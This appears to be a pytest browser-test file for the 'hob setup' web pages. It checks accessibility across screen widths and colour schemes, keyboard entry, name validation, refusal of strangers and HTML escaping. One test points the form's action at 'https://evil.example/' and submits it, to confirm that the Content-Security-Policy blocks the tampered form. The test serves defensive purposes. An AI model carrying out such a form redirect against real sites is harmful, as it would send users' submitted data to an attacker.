"""The pages of `hob setup` in a real browser: they can be used by keyboard, on a phone, in the dark, and by
who does not see them."""

import asyncio
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from bot.github.registration import AppRequest, RegisteredApp
from bot.web.server import address_of, listen, server
from bot.web.setup import Registration, SetupPages, SetupRequest
from tests.browser import Browser, Page, browser
from tests.web.test_pages import VIOLATIONS, axe

pytestmark = pytest.mark.xdist_group("browser")


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browser(tmp_path_factory.mktemp("chromium")) as running:
        yield running


@pytest.fixture
async def pages() -> AsyncIterator[SetupPages]:
    async def keep(app: RegisteredApp, asked: SetupRequest) -> None:
        raise AssertionError("nothing is made here")

    listening = listen("127.0.0.1", 0)
    asked = SetupRequest(AppRequest("hob-ann"), "https://api.github.com")
    model = "qwen2.5-coder:7b on http://127.0.0.1:11434: with 16 GB of unified memory: a usable reviewer."
    made = SetupPages(
        "token", address_of(listening), asked, Registration(keep), model, "qwen2.5-coder:7b (4.7 GB)"
    )
    running = server(made.app(), listening)
    serving = asyncio.create_task(running.serve(sockets=[listening]))
    yield made
    running.stop()
    await serving
    listening.close()


def looked_at(page: Page) -> None:
    for width in (320, 390, 768, 1600):
        page.asks(
            "Emulation.setDeviceMetricsOverride",
            width=width,
            height=800,
            deviceScaleFactor=1,
            mobile=width < 500,
        )
        assert page.runs("document.documentElement.scrollWidth <= innerWidth"), (
            f"{width} px: it moves sideways"
        )
    for scheme in ("light", "dark"):
        page.asks("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
        page.runs(f"{axe()}; 0")
        assert page.runs(VIOLATIONS) == [], scheme


async def test_people_read_it_anywhere_and_change_it_by_keyboard(
    chromium: Browser, pages: SetupPages
) -> None:
    def person() -> None:
        page = chromium.page()
        page.opens(pages.link)
        assert (page.status, page.address) == (200, f"{pages.origin}/setup")
        page.runs("document.querySelector('details').open = true")
        looked_at(page)
        page.runs("document.querySelector('#name').select(), document.querySelector('#name').focus()")
        page.types("🍵")
        page.presses_enter()
        assert page.status == 422
        assert page.runs("document.querySelector('details').open")
        assert "letters or digits" in page.text
        looked_at(page)
        page.runs("document.querySelector('#name').select(), document.querySelector('#name').focus()")
        page.types("hob-of-ann")
        page.presses_enter()
        assert (page.status, page.address) == (200, f"{pages.origin}/setup")
        assert pages.request.app.name == "hob-of-ann"
        page.opens(pages.link)
        assert page.status == 200, "the same browser may open its link again"
        stranger = chromium.page()
        stranger.opens(pages.link)
        assert stranger.status == 401
        looked_at(stranger)

    await asyncio.to_thread(person)


async def test_D2_the_form_can_be_sent_to_github_and_nowhere_else(
    chromium: Browser, pages: SetupPages
) -> None:
    """As the browser enforces it: a form that somebody managed to change stays where it is."""

    def person() -> None:
        page = chromium.page()
        page.opens(pages.link)
        refused = "e => { window.refused = e.effectiveDirective }"
        page.runs(f"document.addEventListener('securitypolicyviolation', {refused})")
        page.runs("document.querySelector('form').action = 'https://evil.example/'")
        page.runs("document.querySelector('form').submit()")
        assert page.runs("new Promise(done => setTimeout(() => done(window.refused), 200))") == "form-action"
        assert page.address == f"{pages.origin}/setup"

    await asyncio.to_thread(person)


async def test_the_page_of_a_made_App_leads_to_its_installation(
    chromium: Browser, pages: SetupPages, tmp_path: Path
) -> None:
    pages.registration.made = RegisteredApp(1, "hob-ann", "https://github.com/apps/hob-ann", "")
    pages.news.append("fetching <b>qwen2.5-coder:7b</b>")

    def person() -> None:
        page = chromium.page()
        page.opens(pages.link)
        assert (
            page.runs("document.querySelector('a.main').href")
            == "https://github.com/apps/hob-ann/installations/new"
        )
        assert "fetching <b>qwen" in page.text
        looked_at(page)

    await asyncio.to_thread(person)
